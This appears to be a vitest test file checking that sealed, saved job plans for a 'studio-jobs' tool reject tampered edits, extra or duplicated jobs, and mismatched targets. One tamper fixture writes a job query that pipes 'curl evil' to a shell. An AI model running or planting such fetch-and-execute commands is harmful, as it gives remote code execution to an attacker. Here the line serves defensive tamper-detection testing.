// A saved plan is applied only as `plan --out` wrote it: the seal refuses any edit made
// without the plan's key, and even a file sealed anew must send exactly the jobs it shows.

import { describe, expect, it } from "vitest";
import { CLUSTERS, desired, options, record } from "../../test/plan-fixtures.js";
import { computePlan } from "../plan/compute.js";
import type { PlanDocument } from "./document.js";
import { restorePlan } from "./restore.js";
import { sealPlanDocument } from "./seal.js";
import { deriveDigestKey } from "./secret-digest.js";
import { unlockPlanFile, verifyPlanFile } from "./verify.js";
import { savedPlanDocument } from "./write.js";

const TOKEN = "studio-token-a";
const key = deriveDigestKey("token", TOKEN, "00112233445566778899aabbccddeeff");
const env = { SECRET: "the-value" };

const plain = desired({ key: "plain" });
const secret = desired({ key: "secret", environment: { K: env.SECRET }, sensitive: ["environment.K"] });
const changed = desired({ key: "changed", query: "print(2)\n" });
const listings = new Map([["demo", [record({ key: "changed", fingerprint: "old" })]]]);
const plan = computePlan([plain, secret, changed], listings, CLUSTERS, options());

/** The saved plan as apply reads it back from its file. */
function saved(): PlanDocument {
  return JSON.parse(JSON.stringify(savedPlanDocument(plan, "1.0.0", "/", key))) as PlanDocument;
}

/** `doc` edited by `edit`, as someone editing the file would; sealed anew when `reseal` (someone holding the key). */
function edited(edit: (doc: PlanDocument & Required<Pick<PlanDocument, "jobs">>) => void, reseal: boolean): PlanDocument {
  const doc = saved() as PlanDocument & Required<Pick<PlanDocument, "jobs">>;
  edit(doc);
  return reseal ? { ...doc, seal: sealPlanDocument(doc, key) } : doc;
}

function unlockRefusal(doc: PlanDocument): string {
  try {
    unlockPlanFile(doc, TOKEN, {}, "plan.json");
  } catch (error) {
    return `${(error as Error).message}\n${String((error as { hint?: string }).hint)}`;
  }
  throw new Error("the plan was unlocked");
}

async function restoreRefusal(doc: PlanDocument): Promise<string> {
  const error = await restorePlan(doc, { listings, clusters: CLUSTERS, env, cwd: "/", key }).then(
    () => undefined,
    (e: unknown) => e as Error,
  );
  if (error === undefined) throw new Error("the plan was restored");
  return error.message;
}

describe("the seal of a saved plan", () => {
  it("holds for the file as written, and the plan restores to what was planned", async () => {
    const doc = saved();
    expect(doc.actions.map((a) => `${a.kind} ${a.key}`)).toEqual(["replace changed", "create plain", "create secret"]);
    expect(doc.seal).toMatch(/^[0-9a-f]{64}$/);
    expect(unlockPlanFile(doc, TOKEN, {}, "plan.json").salt).toBe(key.salt);
    const jobs = await verifyPlanFile(doc, { listings, clusters: CLUSTERS, env, cwd: "/", key });
    expect([...jobs].map(([k, job]) => [k, job.fingerprint])).toEqual([
      ["changed", changed.fingerprint],
      ["plain", plain.fingerprint],
      ["secret", secret.fingerprint],
    ]);
    const restored = await restorePlan(doc, { listings, clusters: CLUSTERS, env, cwd: "/", key });
    expect(restored.actions.map((a) => a.kind)).toEqual(["replace", "create", "create"]);
    expect(restored.actions[0]?.kind === "replace" && restored.actions[0].changes).toEqual(doc.actions[0]?.changes);
  });

  it("refuses any edit before a request: a query, a fingerprint set to null, a job with sensitive values, the summary", () => {
    const refusal =
      "plan.json does not match its seal. The saved plan was changed after it was made. Nothing was changed.\n" +
      "Make it again with `studio-jobs plan --out FILE` and apply that.";
    const edits: ((doc: PlanDocument & Required<Pick<PlanDocument, "jobs">>) => void)[] = [
      (doc) => {
        const job = doc.jobs["plain"];
        if (job !== undefined) job.input.query = 'import os; os.system("curl evil|sh")';
      },
      (doc) => {
        const job = doc.jobs["plain"];
        if (job !== undefined) job.fingerprint = null;
      },
      (doc) => {
        const job = doc.jobs["secret"];
        if (job !== undefined) {
          job.input.query = 'print("tampered")';
          job.environment["EXTRA"] = "added";
        }
      },
      (doc) => {
        doc.summary.create = 0;
      },
    ];
    for (const edit of edits) expect(unlockRefusal(edited(edit, false))).toBe(refusal);
    const { seal: _seal, ...unsealed } = saved();
    expect(unlockRefusal(unsealed)).toMatch(/^plan\.json has no seal\. The saved plan was changed after it was made\./);
  });
});

describe("a saved plan whose digest_key was edited", () => {
  it("is refused saying that, not only that another token made it", () => {
    // Found by an adversarial test: an edited salt or check value was reported as "made with
    // a different Studio token", sending the user after the wrong cause.
    const refusal =
      "plan.json was made with a different Studio token, or its digest_key was edited since, so this apply cannot check that the plan and its sensitive values are unchanged. Nothing was changed.";
    const salt = edited((doc) => {
      if (doc.digest_key !== undefined) doc.digest_key.salt = "ff".repeat(16);
    }, false);
    const check = edited((doc) => {
      if (doc.digest_key !== undefined) doc.digest_key.check = "0".repeat(64);
    }, false);
    for (const doc of [salt, check]) expect(unlockRefusal(doc).split("\n")[0]).toBe(refusal);
  });
});

describe("the Studio a saved plan was made against", () => {
  it("is sealed with the plan, and another Studio is refused before anything is asked of it", () => {
    // Found in review: with one STUDIO_JOBS_PLAN_KEY shared by staging and production, a
    // plan made against staging could be applied to production.
    const doc = JSON.parse(JSON.stringify(savedPlanDocument(plan, "1.0.0", "/", key, "https://staging.example"))) as PlanDocument;
    expect(unlockPlanFile(doc, TOKEN, {}, "plan.json", "https://staging.example").salt).toBe(key.salt);
    expect(() => unlockPlanFile(doc, TOKEN, {}, "plan.json", "https://prod.example")).toThrow(
      "plan.json was made against https://staging.example, not https://prod.example, where this apply would send it. Nothing was changed.",
    );
    // Edited to name the other Studio: the seal no longer holds.
    expect(unlockRefusal({ ...doc, studio: "https://prod.example" })).toMatch(/^plan\.json does not match its seal\./);
  });
});

describe("a saved plan sealed anew", () => {
  const shows = (kind: string, key: string) =>
    `The saved plan's ${kind} of "${key}" in team demo shows a job other than the one it would send.`;

  it("is refused when the jobs it sends are not the settings it shows", async () => {
    const query = edited((doc) => {
      const job = doc.jobs["plain"];
      if (job !== undefined) job.input.query = "print('other')\n";
    }, true);
    expect(await restoreRefusal(query)).toBe(
      `${shows("create", "plain")}\nThe saved plan was changed after it was made. Nothing was changed.`,
    );

    // Both the shown settings and the job, edited alike: the fingerprint no longer fits.
    const both = edited((doc) => {
      const job = doc.jobs["plain"];
      const action = doc.actions.find((a) => a.key === "plain");
      if (job !== undefined) job.input.query = "print('other')\n";
      if (action?.after != null) action.after.query = "print('other')\n";
    }, true);
    expect(await restoreRefusal(both)).toMatch(new RegExp(`^${shows("create", "plain").replace(/[()]/g, "\\$&")}\n`));

    const sensitive = edited((doc) => {
      const job = doc.jobs["secret"];
      if (job !== undefined) job.environment["EXTRA"] = "added";
    }, true);
    expect(await restoreRefusal(sensitive)).toMatch(new RegExp(`^${shows("create", "secret")}\n`));
  });

  it("is refused when a job without sensitive values has no fingerprint, or a job is sent by no action or twice", async () => {
    const nullFingerprint = edited((doc) => {
      const job = doc.jobs["plain"];
      const action = doc.actions.find((a) => a.key === "plain");
      if (job !== undefined) job.fingerprint = null;
      if (action !== undefined) delete action.fingerprint;
    }, true);
    expect(await restoreRefusal(nullFingerprint)).toMatch(new RegExp(`^${shows("create", "plain")}\n`));

    const extra = edited((doc) => {
      const job = doc.jobs["plain"];
      if (job !== undefined) doc.jobs["stowaway"] = job;
    }, true);
    expect(await restoreRefusal(extra)).toMatch(/^The saved plan holds a job "stowaway" that none of its actions sends\.\n/);

    const twice = edited((doc) => {
      const create = doc.actions.find((a) => a.key === "plain");
      if (create !== undefined) doc.actions.push(create);
    }, true);
    expect(await restoreRefusal(twice)).toMatch(/^The saved plan sends the job "plain" twice\.\n/);
  });

  it("is refused when a saved job's own fingerprint is not the job's, even where its action shows the right one", async () => {
    const doc = edited((doc) => {
      const job = doc.jobs["plain"];
      if (job !== undefined) job.fingerprint = "0".repeat(64);
    }, true);
    expect(await restoreRefusal(doc)).toBe(
      `${shows("create", "plain")}\nThe saved plan was changed after it was made. Nothing was changed.`,
    );
  });

  it("is refused when a replace shows another strategy than the one its job is applied with", async () => {
    // Restored, the job replaces as its own settings say: shown cancel-first, it would create first.
    const doc = edited((doc) => {
      const action = doc.actions.find((a) => a.kind === "replace");
      if (action !== undefined) action.strategy = "cancel-first";
    }, true);
    expect(await restoreRefusal(doc)).toBe(
      `${shows("replace", "changed")}\nThe saved plan was changed after it was made. Nothing was changed.`,
    );
  });

  it("is refused when a replace shows changes other than those of the job it sends", async () => {
    const doc = edited((doc) => {
      const action = doc.actions.find((a) => a.kind === "replace");
      if (action !== undefined) action.changes = [];
    }, true);
    expect(await restoreRefusal(doc)).toBe(
      `The saved plan's replace of "changed" in team demo shows changes other than those of the job it would send.\nThe saved plan was changed after it was made. Nothing was changed.`,
    );
  });

  it("is refused when its summary does not count its actions", async () => {
    // Found by a reviewer: with the summary set to zero, show printed the actions and then
    // "No changes", and apply did nothing, as both went by the summary.
    const doc = edited((doc) => {
      doc.summary = { create: 0, replace: 0, cancel: 0, noop: 0, conflict: 0 };
    }, true);
    expect(await restoreRefusal(doc)).toBe(
      "The saved plan's summary does not count its actions.\nThe saved plan was changed after it was made. Nothing was changed.",
    );
  });
});
